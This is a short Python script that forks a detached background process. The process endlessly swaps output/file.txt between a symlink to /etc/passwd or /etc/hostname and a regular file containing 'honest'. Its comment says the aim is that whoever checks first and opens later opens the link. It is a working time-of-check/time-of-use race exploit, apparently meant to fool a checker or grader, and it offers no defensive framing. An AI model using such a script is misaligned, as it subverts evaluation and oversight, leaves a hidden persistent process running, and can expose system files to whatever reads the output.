# An orphan exchanges a file for a link all the time, so that whoever looks first and opens later opens the link.
import os

if os.fork() == 0:
    os.setsid()
    while True:
        for target in ("/etc/passwd", "/etc/hostname"):
            try:
                os.symlink(target, "output/new")
                os.rename("output/new", "output/file.txt")
                with open("output/new", "w") as file:
                    file.write("honest")
                os.rename("output/new", "output/file.txt")
            except OSError:
                pass
import time

time.sleep(0.3)
print("swapping")
